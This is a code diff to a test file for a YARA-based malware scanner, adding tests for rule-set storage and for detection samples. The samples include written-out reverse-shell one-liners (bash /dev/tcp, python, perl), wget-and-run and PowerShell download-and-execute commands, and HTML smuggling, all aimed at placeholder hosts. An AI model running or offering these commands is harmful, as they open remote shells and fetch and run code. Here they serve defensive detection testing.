@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict';
-import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { mkdirSync, readFileSync, readdirSync, renameSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { test } from 'node:test';
 import { zipOf } from '../../../test/support/archives.ts';
@@ -90,6 +90,36 @@ test('a set with mistakes is refused whole, with every file and line, and the ol
   await assert.rejects(sets.add(join(dir, 'cut.zip')), { code: 'SCAN_RULES_UNREADABLE' });
 });
 
+test('files of a set that would have one name, and a set whose replacement was cut short, are all there', async (t) => {
+  const dir = await tempDir(t, 'rules');
+  const dataDir = join(dir, 'data');
+  const sets = createRuleSets({ dataDir, bytesMax: () => 10_000, publish: () => Promise.resolve() });
+  const parts = ['x/a.yar', 'x/a.yara', 'x/a b.yar', 'x/a_b.yar', '../a.yar'];
+  writeFileSync(
+    join(dir, 'set.zip'),
+    zipOf(parts.map((name, at) => ({ name, bytes: rule(`R${at}`, `words${at}`) }))),
+  );
+  assert.deepEqual((({ files, rules }) => [files, rules])(await sets.add(join(dir, 'set.zip'))), [5, 5]);
+  const folder = join(dataDir, 'scan', 'rules');
+  // As a process leaves it that is killed between the two renames.
+  renameSync(join(folder, 'set'), join(folder, '.old-set'));
+  mkdirSync(join(folder, '.new-123456'));
+  assert.deepEqual(sets.list().length, 1);
+  writeFileSync(join(dir, 'other.yar'), rule('Other', 'words'));
+  await sets.add(join(dir, 'other.yar'));
+  assert.deepEqual(
+    sets
+      .list()
+      .map(({ name, rules }) => [name, rules])
+      .slice(1),
+    [
+      ['other', 1],
+      ['set', 5],
+    ],
+  );
+  assert.deepEqual(readdirSync(folder).toSorted(), ['other', 'set']);
+});
+
 test('rules may ask for the name of a file; verdicts are then remembered by name as well', async (t) => {
   const dir = await tempDir(t, 'rules');
   const lab = await scanLab(t, undefined, { dir });
@@ -133,6 +163,8 @@ const SAMPLES: Readonly<Record<string, string>> = {
   Shell_Downloads_And_Runs: '#!/bin/sh\ncd /tmp; wget http://192.0.2.1/a -O a; chmod 777 a; ./a\n',
   Reverse_Shell: 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
   HTML_Smuggling: `<html><script>var d=atob("${'QUJD'.repeat(2100)}");var b=new Blob([d]);a.download="x.zip";a.click()</script></html>`,
+  Packer_UPX: `MZ${'\0'.repeat(100)}UPX0\0\0\0\0${'\0'.repeat(32)}UPX1\0\0\0\0${'\0'.repeat(5000)}UPX!`,
+  Packer_By_Section_Names: `MZ${'\0'.repeat(100)}.vmp0\0\0\0${'\0'.repeat(5000)}`,
   RTF_Equation_Object: '{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}}}',
 };
 
@@ -142,6 +174,29 @@ for (const [name, sample] of Object.entries(SAMPLES)) {
     assert.ok(found(await lab.scan(sample)).includes(`yara ${name}`), found(await lab.scan(sample)).join());
   });
 }
+
+test('parts of a command that only mean something close together', async (t) => {
+  const lab = await scanLab(t);
+  const far = 'y'.repeat(500);
+  const python = (between: string): string =>
+    `python -c 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.1",1));${between}os.dup2(s.fileno(),0);pty.spawn("sh")'`;
+  const perl = (between: string): string =>
+    `perl -e 'use Socket;connect(S,sockaddr_in(1,inet_aton("192.0.2.1")));${between}open(STDIN,">&S");exec("sh -i");'`;
+  for (const [sample, name] of [
+    ['iwr http://host.example/a.ps1 | iex', 'PowerShell_Downloads_And_Runs'],
+    [
+      `${far}\r\n(New-Object Net.WebClient).DownloadString("http://h/a") | IEX`,
+      'PowerShell_Downloads_And_Runs',
+    ],
+    [`iwr http://${far} | iex`, undefined],
+    [python(''), 'Reverse_Shell'],
+    [python(far), undefined],
+    [perl(''), 'Reverse_Shell'],
+    [perl(far), undefined],
+  ] as const) {
+    assert.deepEqual(found(await lab.scan(sample)), name === undefined ? [] : [`yara ${name}`], sample);
+  }
+});
 
 test('shipped rules say nothing of our own source, or of what they are written in', async (t) => {
   const lab = await scanLab(t, (config) => ({ ...config, urls: { ...config.urls, enabled: false } }));
